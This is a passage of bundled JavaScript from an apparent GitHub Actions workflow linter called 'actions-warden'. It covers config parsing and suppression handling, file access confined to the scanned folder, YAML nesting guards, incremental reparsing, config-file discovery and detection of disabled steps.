  switch (descriptor.kind) {
    case "integer": {
      const value = isScalar(node) ? node.value : void 0;
      if (typeof value !== "number" || !Number.isInteger(value) || value < descriptor.minimum) {
        const shown = isScalar(node) ? `, not \`${String(node.value)}\`` : "";
        problem(node, `\`${key}\` must be a whole number of at least ${descriptor.minimum}${shown}.`);
        return void 0;
      }
      return value;
    }
    case "names":
    case "uses-patterns": {
      const items = isSeq(node) ? node.items : null;
      if (!items) {
        problem(node, `\`${key}\` must be a list of ${descriptor.kind === "names" ? "secret names" : "uses patterns"}.`);
        return void 0;
      }
      const out = [];
      for (const item of items) {
        const text = isScalar(item) && typeof item.value === "string" ? item.value.trim() : null;
        if (text === null || text === "") {
          problem(item, `Each entry of \`${key}\` must be a non-empty string.`);
          continue;
        }
        if (descriptor.kind === "names") {
          if (isSecretName(text)) out.push(text);
          else problem(item, `\`${text}\` is not a secret name (letters, digits and \`_\`, not starting with a digit).`);
          continue;
        }
        const wrong = usesPatternProblem(text, true);
        if (wrong === null) out.push(text);
        else problem(item, `\`${text}\` is not a uses pattern: ${wrong}.`);
      }
      return out;
    }
    case "pin-policies":
      return readPolicies(node, key, problem);
    case "checksums": {
      if (!isMap(node)) {
        problem(node, `\`${key}\` must be a mapping of download URL to its sha256.`);
        return void 0;
      }
      return readChecksums(node, problem);
    }
  }
}
function readChecksums(node, problem) {
  const checksums = {};
  for (const item of node.items) {
    const url = isScalar(item.key) ? String(item.key.value) : "";
    const sum = isScalar(item.value) ? String(item.value.value ?? "") : "";
    const hex2 = sum.replace(/^sha256:/i, "").toLowerCase();
    if (!/^[0-9a-f]{64}$/.test(hex2)) problem(item.value ?? item.key, `The checksum of \`${url}\` must be a 64-hex-digit sha256.`);
    else checksums[url] = hex2;
  }
  return checksums;
}
function parseIgnoreLocation(entry) {
  const match = /^(.*?)(?::(\d+))?(?::(\d+))?$/.exec(entry.trim());
  if (!match || match[1] === "") return null;
  const line = match[2] === void 0 ? void 0 : Number(match[2]);
  const column = match[3] === void 0 ? void 0 : Number(match[3]);
  if (line === 0 || column === 0) return null;
  return { file: match[1].replace(/\\/g, "/").replace(/^\.\//, ""), line, column };
}
function ignoreMatches(location, relativePath, line, endLine, column) {
  const path = relativePath.replace(/\\/g, "/");
  if (path !== location.file && !path.endsWith(`/${location.file}`)) return false;
  if (location.line === void 0) return true;
  if (location.line < line || location.line > endLine) return false;
  return location.column === void 0 || location.line === line && location.column === column;
}

// server/src/config/apply.ts
var CONFIG_ERROR_RULE2 = "config-error";
function optionsWithConfig(base2, config, relativePath, overrides = {}) {
  if (!config) return { ...base2, ...definedOnly(overrides) };
  const disabledRules = new Set(base2.disabledRules);
  const ruleConfig = { ...base2.ruleConfig ?? {} };
  const severities = /* @__PURE__ */ new Map();
  const ignores = /* @__PURE__ */ new Map();
  for (const [id, settings] of Object.entries(config.rules)) {
    if (settings.disable) disabledRules.add(id);
    if (Object.keys(settings.config).length > 0) ruleConfig[id] = { ...ruleConfig[id] ?? {}, ...settings.config };
    if (settings.severity) severities.set(id, settings.severity);
    if (settings.ignore.length > 0) ignores.set(id, settings.ignore);
  }
  const previous = base2.adjust;
  const adjust = severities.size === 0 && ignores.size === 0 ? previous : (input2) => {
    const finding = previous ? previous(input2) : input2;
    if (!finding) return null;
    const locations = ignores.get(finding.ruleId);
    if (locations) {
      const line = finding.range.start.line + 1;
      const endLine = finding.range.end.line + 1;
      const column = finding.range.start.character + 1;
      const matched = locations.find((location) => ignoreMatches(location, relativePath, line, endLine, column));
      if (matched) {
        if (!base2.keepSuppressed) return null;
        const entry = `${matched.file}${matched.line !== void 0 ? `:${matched.line}` : ""}${matched.column !== void 0 ? `:${matched.column}` : ""}`;
        Object.assign(finding, {
          suppression: {
            kind: "external",
            justification: `configuration: rules.${finding.ruleId}.ignore: ${entry}`
          }
        });
      }
    }
    const severity = severities.get(finding.ruleId);
    if (severity && severity !== finding.severity) finding.severity = severity;
    return finding;
  };
  return {
    ...base2,
    ...config.persona ? { persona: config.persona } : {},
    ...config.minSeverity ? { minSeverity: config.minSeverity } : {},
    ...config.minConfidence ? { minConfidence: config.minConfidence } : {},
    ...definedOnly(overrides),
    disabledRules,
    ruleConfig,
    ...adjust ? { adjust } : {}
  };
}
function definedOnly(overrides) {
  return Object.fromEntries(Object.entries(overrides).filter(([, value]) => value !== void 0));
}
function configFindings(config) {
  return config.problems.map((problem) => ({
    ruleId: CONFIG_ERROR_RULE2,
    severity: problem.level === "error" ? "medium" : "low",
    confidence: "high",
    persona: "regular",
    message: problem.message,
    span: problem.span,
    range: config.lines.range(problem.span),
    related: [],
    fixes: []
  }));
}

// server/src/config/find-config.ts
var import_node_fs2 = require("node:fs");
var import_node_path2 = require("node:path");

// server/src/files/confined.ts
var import_node_fs = require("node:fs");
var import_node_crypto = require("node:crypto");
var import_node_path = require("node:path");
var OUTSIDE_ROOT = "symbolic link to outside the scanned folder";
function isInside(root, path) {
  if (path === root) return true;
  return path.startsWith(root.endsWith(import_node_path.sep) ? root : root + import_node_path.sep);
}
function realPathOrNull(path) {
  try {
    return (0, import_node_fs.realpathSync)(path);
  } catch {
    return null;
  }
}
var RefusedError = class extends Error {
  constructor(message) {
    super(message);
    this.name = "RefusedError";
  }
};
var NOFOLLOW = import_node_fs.constants.O_NOFOLLOW ?? 0;
var NONBLOCK = import_node_fs.constants.O_NONBLOCK ?? 0;
function openWithin(root, path) {
  const real = (0, import_node_fs.realpathSync)(path);
  if (!isInside(root, real)) throw new RefusedError(OUTSIDE_ROOT);
  const fd = (0, import_node_fs.openSync)(real, import_node_fs.constants.O_RDONLY | NOFOLLOW | NONBLOCK);
  try {
    const stats = (0, import_node_fs.fstatSync)(fd);
    if (!stats.isFile()) throw new RefusedError("not a regular file");
    return { fd, real, stats };
  } catch (error) {
    (0, import_node_fs.closeSync)(fd);
    throw error;
  }
}
function sameFile(a, b) {
  return a.dev === b.dev && a.ino === b.ino;
}
function writeFileWithin(root, read, bytes) {
  const real = (0, import_node_fs.realpathSync)(read.real);
  if (!isInside(root, real)) throw new RefusedError(OUTSIDE_ROOT);
  const folder = (0, import_node_path.dirname)(real);
  const check = () => {
    const current = (0, import_node_fs.lstatSync)(real);
    if (!current.isFile() || !sameFile(current, read.stats)) throw new RefusedError("the file changed while it was being fixed; run again");
    if ((0, import_node_fs.realpathSync)(folder) !== folder) throw new RefusedError("its folder changed while it was being fixed; run again");
  };
  check();
  const temporary = (0, import_node_path.join)(folder, `.${(0, import_node_path.basename)(real)}.${process.pid}-${(0, import_node_crypto.randomBytes)(6).toString("hex")}.warden-tmp`);
  const fd = (0, import_node_fs.openSync)(temporary, import_node_fs.constants.O_WRONLY | import_node_fs.constants.O_CREAT | import_node_fs.constants.O_EXCL | NOFOLLOW, 384);
  let renamed = false;
  try {
    try {
      let offset = 0;
      while (offset < bytes.length) offset += (0, import_node_fs.writeSync)(fd, bytes, offset, bytes.length - offset);
      (0, import_node_fs.fchmodSync)(fd, read.stats.mode & 511);
      if (typeof process.getuid === "function" && process.getuid() === 0) {
        try {
          (0, import_node_fs.fchownSync)(fd, read.stats.uid, read.stats.gid);
        } catch {
        }
      }
    } finally {
      (0, import_node_fs.closeSync)(fd);
    }
    check();
    (0, import_node_fs.renameSync)(temporary, real);
    renamed = true;
  } finally {
    if (!renamed) {
      try {
        (0, import_node_fs.unlinkSync)(temporary);
      } catch {
      }
    }
  }
}
var strictDecoder = new TextDecoder("utf-8", { fatal: true });
function isValidUtf8(bytes) {
  try {
    strictDecoder.decode(bytes);
    return true;
  } catch {
    return false;
  }
}
function hasUtf8Bom(bytes) {
  return bytes.length >= 3 && bytes[0] === 239 && bytes[1] === 187 && bytes[2] === 191;
}

// server/src/parse/guards.ts
var MAX_NESTING2 = 200;
function measureNesting(text, limit = MAX_NESTING2) {
  let maxDepth = 0;
  let flow = 0;
  const indents = [];
  let nextSquare = -2;
  let nextCurly = -2;
  let lineStart = 0;
  while (lineStart <= text.length) {
    let lineEnd = text.indexOf("\n", lineStart);
    if (lineEnd === -1) lineEnd = text.length;
    let i = lineStart;
    while (i < lineEnd && text.charCodeAt(i) === 32) i++;
    let column = i - lineStart;
    let markers = 0;
    while (i < lineEnd && text.charCodeAt(i) === 45 && (i + 1 >= lineEnd || text.charCodeAt(i + 1) === 32 || text.charCodeAt(i + 1) === 13)) {
      markers++;
      i += 2;
      while (i < lineEnd && text.charCodeAt(i) === 32) i++;
    }
    const rest = i < lineEnd ? text.charCodeAt(i) : -1;
    const blank = markers === 0 && (rest === -1 || rest === 35 || rest === 13);
    if (!blank) {
      while (indents.length > 0 && indents[indents.length - 1] >= column) indents.pop();
      indents.push(column);
      column += markers;
      const depth = indents.length + markers;
      if (depth > maxDepth) maxDepth = depth;
      if (depth > limit) return { depth, offset: lineStart };
    }
    if (nextSquare !== -1 && nextSquare < i) nextSquare = text.indexOf("[", i);
    if (nextCurly !== -1 && nextCurly < i) nextCurly = text.indexOf("{", i);
    const opensHere = nextSquare !== -1 && nextSquare < lineEnd || nextCurly !== -1 && nextCurly < lineEnd;
    let quote2 = 0;
    for (let j = flow === 0 && !opensHere ? lineEnd : i; j < lineEnd; j++) {
      const c = text.charCodeAt(j);
      if (quote2) {
        if (c === quote2) quote2 = 0;
        continue;
      }
      if (c === 39 || c === 34) {
        const before = j > lineStart ? text.charCodeAt(j - 1) : 32;
        if (before === 32 || before === 91 || before === 123 || before === 44 || before === 58) quote2 = c;
      } else if (c === 35 && (j === lineStart || text.charCodeAt(j - 1) === 32)) {
        break;
      } else if (c === 91 || c === 123) {
        flow++;
        if (flow > maxDepth) maxDepth = flow;
        if (flow > limit) return { depth: flow, offset: j };
      } else if ((c === 93 || c === 125) && flow > 0) {
        flow--;
      }
    }
    lineStart = lineEnd + 1;
  }
  return { depth: maxDepth, offset: -1 };
}

// server/src/parse/incremental.ts
var PARSE_OPTIONS = { keepSourceTokens: false, uniqueKeys: true, prettyErrors: false, strict: true };
function diffTexts(before, after) {
  const limit = Math.min(before.length, after.length);
  let start = 0;
  while (start + DIFF_BLOCK <= limit && before.substring(start, start + DIFF_BLOCK) === after.substring(start, start + DIFF_BLOCK))
    start += DIFF_BLOCK;
  while (start < limit && before.charCodeAt(start) === after.charCodeAt(start)) start++;
  const maxSuffix = limit - start;
  let suffix = 0;
  while (suffix + DIFF_BLOCK <= maxSuffix && before.substring(before.length - suffix - DIFF_BLOCK, before.length - suffix) === after.substring(after.length - suffix - DIFF_BLOCK, after.length - suffix))
    suffix += DIFF_BLOCK;
  while (suffix < maxSuffix && before.charCodeAt(before.length - 1 - suffix) === after.charCodeAt(after.length - 1 - suffix)) suffix++;
  return { start, oldEnd: before.length - suffix, newEnd: after.length - suffix };
}
var DIFF_BLOCK = 512;
function lineStartOf(text, offset) {
  return text.lastIndexOf("\n", offset - 1) + 1;
}
function keyStart(pair) {
  const key = pair.key;
  return key && isScalar(key) && key.range ? key.range[0] : null;
}
function findRegion(doc, text, change) {
  const root = doc.contents;
  if (!root || !isMap(root) || root.flow) return null;
  const tops = root.items;
  for (let t = 0; t < tops.length; t++) {
    const value = tops[t].value;
    const topKey = keyStart(tops[t]);
    if (topKey === null || topKey > change.start) return null;
    const nextTop = t + 1 < tops.length ? keyStart(tops[t + 1]) : text.length;
    if (nextTop === null) return null;
    if (change.start >= nextTop && !(nextTop === text.length && change.start === nextTop)) continue;
    if (!value || !isMap(value) || value.flow) return null;
    if (nextTop !== text.length && lineStartOf(text, nextTop) !== nextTop) return null;
    const items = value.items;
    for (let index = 0; index < items.length; index++) {
      const here = keyStart(items[index]);
      const next = index + 1 < items.length ? keyStart(items[index + 1]) : nextTop;
      if (here === null || next === null) return null;
      const start = lineStartOf(text, here);
      const end = next === text.length ? next : lineStartOf(text, next);
      const inside = change.start >= start && change.start <= end;
      if (!inside) continue;
      if (change.oldEnd > end || end <= start) return null;
      const indent = here - start;
      if (!/^ *$/.test(text.slice(start, here))) return null;
      if (index + 1 < items.length && (next - end !== indent || !/^ *$/.test(text.slice(end, next)))) return null;
      return { parent: value, index, start, end, indent };
    }
    return null;
  }
  return null;
}
function staysIndented(region, indent) {
  let at = region.indexOf("\n");
  while (at !== -1 && at + 1 < region.length) {
    const from = at + 1;
    let column = from;
    while (column < region.length && region.charCodeAt(column) === 32) column++;
    const c = region[column];
    const blank = column >= region.length || c === "\n" || c === "\r" || c === "#";
    if (!blank && column - from <= indent) return false;
    at = region.indexOf("\n", from);
  }
  return true;
}
function plain2(node) {
  if (node === null || node === void 0) return true;
  if (isAlias(node)) return false;
  if (isPair(node)) return plain2(node.key) && plain2(node.value);
  const n = node;
  if (n.anchor) return false;
  if (isMap(n) || isSeq(n)) {
    for (const item of n.items) if (!plain2(item)) return false;
  }
  return true;
}
function shiftInPlace(node, delta) {
  if (node === null || node === void 0) return;
  if (isPair(node)) {
    shiftInPlace(node.key, delta);
    shiftInPlace(node.value, delta);
    return;
  }
  const n = node;
  if (n.range) n.range = [n.range[0] + delta, n.range[1] + delta, n.range[2] + delta];
  if (isMap(n) || isSeq(n)) for (const item of n.items) shiftInPlace(item, delta);
}
function copyShifted(node, shift, before, replace, replacement) {
  if (node === null || node === void 0) return node;
  if (node === replace) return replacement;
  if (isPair(node))
    return new Pair(
      copyShifted(node.key, shift, before, replace, replacement),
      copyShifted(node.value, shift, before, replace, replacement)
    );
  const n = node;
  if (n.range && n.range[2] <= before) return n;
  let copy;
  if (isScalar(n)) copy = Object.assign(new Scalar(n.value), n);
  else if (isMap(n) || isSeq(n)) {
    const collection = n;
    copy = Object.assign(isMap(n) ? new YAMLMap(collection.schema) : new YAMLSeq(collection.schema), n);
    if (copy[MAP_INDEX] !== void 0) copy[MAP_INDEX] = void 0;
    const items = collection.items;
    const copied = new Array(items.length);
    for (let i = 0; i < items.length; i++) copied[i] = copyShifted(items[i], shift, before, replace, replacement);
    copy.items = copied;
  } else throw new Unsupported();
  if (n.range) {
    const [a, b, c] = n.range;
    copy.range = [shift(a), shift(b), shift(c)];
  }
  return copy;
}
var Unsupported = class extends Error {
};
var PLAIN = new AttachedCache("plain-document");
var SENTINEL = "__actions_warden_next_entry__";
function isLineLocal(error, sourceLength) {
  if (error.pos[1] > sourceLength) return false;
  switch (error.code) {
    case "MISSING_CHAR":
      return error.message.startsWith("Implicit map keys need to be followed by map values") || error.message.startsWith("Sequence item without - indicator");
    case "MULTILINE_IMPLICIT_KEY":
    case "BLOCK_AS_IMPLICIT_KEY":
      return true;
    case "BAD_INDENT":
      return error.message.startsWith("All mapping items must start at the same column");
    default:
      return false;
  }
}
function withOffset(error, offset) {
  const moved = Object.create(Object.getPrototypeOf(error), Object.getOwnPropertyDescriptors(error));
  moved.pos = [error.pos[0] + offset, error.pos[1] + offset];
  return moved;
}
var incrementalStats = { reparsed: 0, fallbacks: {} };
function fail2(reason) {
  incrementalStats.fallbacks[reason] = (incrementalStats.fallbacks[reason] ?? 0) + 1;
  return null;
}
function reparseIncrementally(previousDoc, previousText, text, change = diffTexts(previousText, text)) {
  if (previousDoc.errors.length > 0 || previousDoc.warnings.length > 0) return fail2("base-has-errors");
  let plainDoc = PLAIN.get(previousDoc);
  if (plainDoc === void 0) PLAIN.set(previousDoc, plainDoc = plain2(previousDoc.contents));
  if (!plainDoc) return fail2("anchor-or-alias");
  if (previousDoc.directives?.docStart || previousText.startsWith("%")) return fail2("directives");
  const lineStart = lineStartOf(previousText, change.start);
  if (/^ *$/.test(previousText.slice(lineStart, change.start))) {
    let { start, oldEnd, newEnd } = change;
    while (start > lineStart && previousText.charCodeAt(oldEnd - 1) === text.charCodeAt(newEnd - 1)) {
      start--;
      oldEnd--;
      newEnd--;
    }
    change = { start, oldEnd, newEnd };
  }
  const region = findRegion(previousDoc, previousText, change);
  if (!region) return fail2("outside-entry");
  const delta = change.newEnd - change.oldEnd;
  const end = region.end + delta;
  const source = text.slice(region.start, end);
  if (!staysIndented(source, region.indent)) return fail2("not-indented");
  if (measureNesting(source, MAX_NESTING2 - 2).offset !== -1) return fail2("too-deep");
  if (/[|>][+-]?[1-9]/.test(source)) return fail2("indentation-indicator");
  const last = region.index === region.parent.items.length - 1;
  const eol = source.endsWith("\r\n") ? "\r\n" : "\n";
  if (end !== text.length && !source.endsWith("\n")) return fail2("no-line-break-after-entry");
  const sentinel = last ? "" : `${" ".repeat(region.indent)}${SENTINEL}: 0${eol}`;
  let part;
  try {
    part = parseDocument(source + sentinel, PARSE_OPTIONS);
  } catch {
    return fail2("entry-parse-threw");
  }
  if (part.errors.some((error) => !isLineLocal(error, source.length)) || part.warnings.length > 0 || part.directives?.docStart)
    return fail2("entry-has-errors");
  const contents = part.contents;
  const expected = last ? 1 : 2;
  if (!contents || !isMap(contents) || contents.flow || contents.items.length !== expected)
    return fail2("not-one-block-entry");
  if (!last) {
    const stand = contents.items[1].key;
    if (!stand || !isScalar(stand) || stand.value !== SENTINEL || stand.range?.[0] !== source.length + region.indent)
      return fail2("not-one-block-entry");
  }
  const pair = contents.items[0];
  const key = pair.key;
  if (!key || !isScalar(key) || !key.range || key.range[0] !== region.indent || !plain2(pair)) return fail2("key-moved-or-anchor");
  const name = key.value;
  if (name === "<<" || name === SENTINEL) return fail2("merge-key");
  for (let i = 0; i < region.parent.items.length; i++) {
    const other = region.parent.items[i].key;
    if (i !== region.index && other && isScalar(other) && other.value === name) return fail2("duplicate-key");
  }
  const replaced = region.parent.items[region.index];
  shiftInPlace(pair, region.start);
  if (last) {
    const oldEnd = replaced.value?.range?.[2];
    const newEnd = pair.value?.range?.[2];
    const standalone = contents.range;
    if (oldEnd !== region.end || newEnd !== end || !standalone || standalone[1] !== standalone[2]) return fail2("last-entry-trailing-lines");
  }
  const oldOffsets = [...replaced.key?.range ?? [], ...replaced.value?.range ?? []];
  const newOffsets = [...pair.key?.range ?? [], ...pair.value?.range ?? []];
  const shift = (offset) => {
    if (offset <= region.start) return offset;
    if (offset >= region.end) return offset + delta;
    const at = oldOffsets.indexOf(offset);
    if (at === -1 || at >= newOffsets.length) throw new Unsupported();
    return newOffsets[at];
  };
  let copied;
  try {
    copied = copyShifted(previousDoc.contents, shift, region.start, replaced, pair);
  } catch (error) {
    if (error instanceof Unsupported) return fail2("offset-inside-entry");
    throw error;
  }
  const doc = Object.create(Object.getPrototypeOf(previousDoc), Object.getOwnPropertyDescriptors(previousDoc));
  doc.contents = copied;
  doc.errors = part.errors.map((error) => withOffset(error, region.start));
  doc.warnings = [];
  try {
    if (previousDoc.range) doc.range = [shift(previousDoc.range[0]), shift(previousDoc.range[1]), shift(previousDoc.range[2])];
  } catch {
    return fail2("offset-inside-entry");
  }
  incrementalStats.reparsed++;
  PLAIN.set(doc, true);
  return doc;
}

// server/src/parse/document.ts
var MAX_REPORTED_YAML_ERRORS = 100;
var MAX_ANALYSED_LENGTH = 4 * 1024 * 1024;
function classifyPath(path) {
  const normalized = path.replace(/\\/g, "/");
  if (/(^|\/)\.github\/workflows\/[^/]+\.ya?ml$/i.test(normalized)) return "workflow";
  if (/(^|\/)\.github\/dependabot\.ya?ml$/i.test(normalized)) return "dependabot";
  if (/(^|\/)action\.ya?ml$/i.test(normalized)) return "action";
  return "unknown";
}
var ParsedFile = class {
  constructor(uri, kind, text, version2 = 0, previous) {
    this.uri = uri;
    this.kind = kind;
    this.text = text;
    this.version = version2;
    this.lines = new LineIndex(text);
    if (kind === "unknown") return;
    if (text.length > MAX_ANALYSED_LENGTH) {
      this.problems.push({
        code: "file-too-large",
        message: `File is ${Math.round(text.length / 1024)} KiB; files over ${MAX_ANALYSED_LENGTH / 1024 / 1024} MiB are not analysed.`,
        span: { start: 0, end: Math.min(text.length, this.lines.lineContentEnd(0)) }
      });
      return;
    }
    const base2 = previous && previous.kind === kind ? previous.reparseBase : null;
    let incremental = null;
    try {
      incremental = base2 ? reparseIncrementally(base2.doc, base2.text, text) : null;
    } catch {
      incremental = null;
    }
    if (!incremental) {
      const nesting = measureNesting(text);
      if (nesting.offset !== -1) {
        this.problems.push({
          code: "too-deeply-nested",
          message: `The document nests more than ${MAX_NESTING2} levels deep; it is not analysed.`,
          span: { start: nesting.offset, end: Math.min(text.length, nesting.offset + 1) }
        });
        return;
      }
    }
    try {
      this.incremental = incremental !== null;
      this.doc = incremental ?? parseDocument(text, PARSE_OPTIONS);
      this.reparseBase = this.doc.errors.length === 0 && this.doc.warnings.length === 0 ? { doc: this.doc, text } : base2;
    } catch (error) {
      this.problems.push({ code: "parse-failure", message: `The YAML parser failed: ${String(error)}`, span: { start: 0, end: 0 } });
      return;
    }
    if (this.doc.errors.some((error) => /Maximum call stack size exceeded/.test(error.message))) {
      this.doc = null;
      this.problems.push({
        code: "too-deep",
        message: "The document nests too deeply to be analysed.",
        span: { start: 0, end: this.lines.lineContentEnd(0) }
      });
      return;
    }
    const errors = this.doc.errors;
    for (let index = 0; index < Math.min(errors.length, MAX_REPORTED_YAML_ERRORS); index++) {
      const error = errors[index];
      const start = Math.max(0, Math.min(error.pos[0], text.length));
      const end = Math.max(start, Math.min(error.pos[1], text.length));
      const more = index === MAX_REPORTED_YAML_ERRORS - 1 && errors.length > MAX_REPORTED_YAML_ERRORS ? ` (and ${errors.length - MAX_REPORTED_YAML_ERRORS} more YAML errors after this one, not shown)` : "";
      this.problems.push({ code: error.code, message: firstLine(error.message) + more, span: { start, end } });
    }
    const root = this.doc.contents;
    const map2 = root && isMap(root) ? root : null;
    if (!map2 && this.doc.errors.length === 0 && root !== null) {
      const span = root.range ? { start: root.range[0], end: root.range[1] } : { start: 0, end: 0 };
      this.problems.push({
        code: "not-a-mapping",
        message: "Expected a mapping of keys (such as `on:` and `jobs:`) at the top level.",
        span
      });
    }
    try {
      if (kind === "workflow") this.workflow = new WorkflowView(map2, this.doc);
      else if (kind === "action") this.action = new ActionView(map2, this.doc);
      else this.dependabot = new DependabotView(map2, this.doc);
      this.collectUses();
    } catch (error) {
      this.problems.push({
        code: "internal-error",
        message: `Could not read the document's structure: ${String(error)}`,
        span: { start: 0, end: 0 }
      });
    }
  }
  uri;
  kind;
  text;
  version;
  lines;
  problems = [];
  doc = null;
  workflow = null;
  action = null;
  dependabot = null;
  uses = [];
  expressionSites = null;
  /** True when the document came from re-parsing only the edited part of the previous version. */
  incremental = false;
  /** The latest version (this one or an earlier one) whose YAML parsed without errors: what the next version re-parses from. */
  reparseBase = null;
  /** Where per-file caches keep their entries (AttachedCache with `attachmentsOf`): the file's own shape never changes. */
  attachments = {};
  /** Every `${{ }}` in any scalar value of the document (computed on first use). */
  get expressions() {
    if (this.expressionSites) return this.expressionSites;
    const sites = [];
    const text = this.text;
    const opens = [];
    for (let at = text.indexOf("${{"); at !== -1; at = text.indexOf("${{", at + 1)) opens.push(at);
    if (opens.length > 0) {
      const contents = this.doc?.contents ?? null;
      walkExpressionScalars(contents, opens, [], 0, (scalar, path) => {
        const range = scalar.range;
        if (!range || typeof scalar.value !== "string" || !scalar.value.includes("${{")) return;
        for (const found of findExpressions(text, range[0], range[1])) {
          const occurrence = scalar.type === "QUOTE_SINGLE" && found.text.includes("''") ? { ...found, text: found.text.replace(/''/g, "'"), parsed: parseExpression(found.text.replace(/''/g, "'")) } : found;
          sites.push({ occurrence, scalar, path: [...path] });
        }
      });
    }
    this.expressionSites = sites;
    return sites;
  }
  collectUses() {
    const add = (entry, job, step) => {
      if (!entry || !entry.value) return;
      const value = typeof entry.value.value === "string" ? entry.value.value : null;
      if (value === null) return;
      const offset = valueOffsetInSource(entry.value, this.text);
      this.uses.push({
        entry,
        value,
        valueStart: offset ?? entry.valueSpan.start,
        exact: offset !== null,
        reference: parseUses(value),
        job,
        step
      });
    };
    if (this.workflow) {
      for (const job of this.workflow.jobs) {
        add(job.uses, job, null);
        for (const step of job.steps) add(step.uses, job, step);
      }
    }
    if (this.action) for (const step of this.action.steps) add(step.uses, null, step);
  }
};
function holdsOpen(opens, start, end) {
  let low = 0;
  let high = opens.length;
  while (low < high) {
    const mid = low + high >> 1;
    if (opens[mid] < start) low = mid + 1;
    else high = mid;
  }
  return low < opens.length && opens[low] + 3 <= end;
}
function walkExpressionScalars(node, opens, path, depth, visit3) {
  if (!node || depth > 256) return;
  const range = node.range;
  if (range && !holdsOpen(opens, range[0], Math.max(range[1], range[2]))) return;
  if (isScalar(node)) {
    visit3(node, path);
  } else if (isMap(node)) {
    const items = node.items;
    for (let i = 0; i < items.length; i++) {
      const pair = items[i];
      const key = pair.key;
      if (key && isScalar(key)) {
        const keyRange = key.range;
        if (!keyRange || holdsOpen(opens, keyRange[0], Math.max(keyRange[1], keyRange[2]))) visit3(key, path);
      }
      path.push(scalarText(key) ?? "?");
      walkExpressionScalars(pair.value, opens, path, depth + 1, visit3);
      path.pop();
    }
  } else if (isSeq(node)) {
    const items = node.items;
    for (let i = 0; i < items.length; i++) {
      path.push(i);
      walkExpressionScalars(items[i], opens, path, depth + 1, visit3);
      path.pop();
    }
  }
}
function firstLine(message) {
  return message.split("\n")[0].replace(/ at line \d+, column \d+:?$/, "");
}
function parseFile(uri, kind, text, version2 = 0) {
  return new ParsedFile(uri, kind, text, version2);
}

// server/src/config/find-config.ts
var OUR_CONFIG_FILES = [".github/actions-warden.yml", ".github/actions-warden.yaml", "actions-warden.yml", "actions-warden.yaml"];
var ZIZMOR_CONFIG_FILES = ["zizmor.yml", "zizmor.yaml", ".github/zizmor.yml", ".github/zizmor.yaml"];
var MAX_CONFIG_BYTES = 1024 * 1024;
function configFormatOf(path) {
  const normalized = path.replace(/\\/g, "/");
  if (classifyPath(normalized) !== "unknown") return null;
  if (/(^|\/)actions-warden\.ya?ml$/i.test(normalized)) return "warden";
  if (/(^|\/)zizmor\.ya?ml$/i.test(normalized)) return "zizmor";
  return null;
}
function isFile(path) {
  try {
    return (0, import_node_fs2.statSync)(path).isFile();
  } catch {
    return false;
  }
}
function configSearchBoundary(scannedRoot) {
  const parts = scannedRoot.split(/[\\/]/);
  const dotGithub = parts.lastIndexOf(".github");
  const base2 = dotGithub > 0 ? scannedRoot.slice(0, parts.slice(0, dotGithub).join("/").length) || import_node_path2.sep : scannedRoot;
  let dir = base2;
  for (let depth = 0; depth < 64; depth++) {
    if ((0, import_node_fs2.existsSync)((0, import_node_path2.join)(dir, ".git"))) return dir;
    const parent = (0, import_node_path2.dirname)(dir);
    if (parent === dir) break;
    dir = parent;
  }
  return base2;
}
function findConfig(startDir, stopAt = configSearchBoundary(startDir)) {
  let dir = startDir;
  let realBoundary;
  const found = (path, format) => {
    if (realBoundary === void 0) realBoundary = realPath(stopAt);
    const real = realPath(path);
    const outside = realBoundary === null || real === null || !isInside(realBoundary, real);
    return outside ? { path, format, root: dir, outside } : { path, format, root: dir };
  };
  for (let depth = 0; depth < 64; depth++) {
    const insideDotGithub = dir.split(/[\\/]/).includes(".github");
    if (!insideDotGithub) {
      for (const name of OUR_CONFIG_FILES) if (isFile((0, import_node_path2.join)(dir, name))) return found((0, import_node_path2.join)(dir, name), "warden");
      for (const name of ZIZMOR_CONFIG_FILES) if (isFile((0, import_node_path2.join)(dir, name))) return found((0, import_node_path2.join)(dir, name), "zizmor");
      if ((0, import_node_fs2.existsSync)((0, import_node_path2.join)(dir, ".git")) || (0, import_node_fs2.existsSync)((0, import_node_path2.join)(dir, ".github"))) return null;
    }
    if (samePath(dir, stopAt)) return null;
    const parent = (0, import_node_path2.dirname)(dir);
    if (parent === dir) return null;
    dir = parent;
  }
  return null;
}
function realPath(path) {
  try {
    return (0, import_node_fs2.realpathSync)(path);
  } catch {
    return null;
  }
}
function samePath(a, b) {
  const strip = (path) => trimEndOf(path, "\\/");
  return strip(a) === strip(b);
}
function loadConfig(path, format = configFormatOf(path), outside = false) {
  const kind = format ?? "warden";
  if (outside) {
    const config = parseConfig("", path, kind);
    config.problems.push({
      span: { start: 0, end: 0 },
      message: "The configuration file is a symbolic link to outside the repository; it was not read.",
      level: "error"
    });
    return config;
  }
  try {
    const size = (0, import_node_fs2.statSync)(path).size;
    if (size > MAX_CONFIG_BYTES) {
      const config = parseConfig("", path, kind);
      config.problems.push({
        span: { start: 0, end: 0 },
        message: `The configuration file is ${Math.round(size / 1024)} KiB; it was not read.`,
        level: "error"
      });
      return config;
    }
    return parseConfig(new TextDecoder("utf-8").decode((0, import_node_fs2.readFileSync)(path)), path, kind);
  } catch (error) {
    const config = parseConfig("", path, kind);
    config.lines = new LineIndex("");
    config.problems.push({
      span: { start: 0, end: 0 },
      message: `The configuration file could not be read: ${error instanceof Error ? error.message : String(error)}`,
      level: "error"
    });
    return config;
  }
}
function relativeTo(root, path) {
  const rel = (0, import_node_path2.relative)(root, path);
  const normalized = import_node_path2.sep === "/" ? rel : rel.split(import_node_path2.sep).join("/");
  return normalized === "" || normalized.startsWith("..") ? path.replace(/\\/g, "/") : normalized;
}

// server/src/rules/support/dead-code.ts
function isNeverTrue(entry) {
  if (!entry) return false;
  let text = scalarText(entry.value);
  if (text === null) return false;
  text = text.trim();
  if (text.startsWith("${{") && text.endsWith("}}")) text = text.slice(3, -2).trim();
  return text.toLowerCase() === "false";
}
function deadRegions(file) {
  const regions = [];
  const steps = (list) => {
    for (const step of list) {
      const condition = step.if;
      const span = step.nodeSpan;
      if (condition && span && isNeverTrue(condition)) regions.push({ span, condition: entrySpan(condition) });
    }
  };
  for (const job of file.workflow?.jobs ?? []) {
    const condition = job.if;
    if (condition && isNeverTrue(condition)) regions.push({ span: job.span, condition: entrySpan(condition) });
    else steps(job.steps);
  }
  if (file.action) steps(file.action.steps);
  return regions;
}
function insideDeadRegion(span, regions) {
  return regions.some(
    (region) => span.start >= region.span.start && span.end <= region.span.end && !(span.start >= region.condition.start && span.end <= region.condition.end)
  );
}

// server/src/suppressions/spans.ts
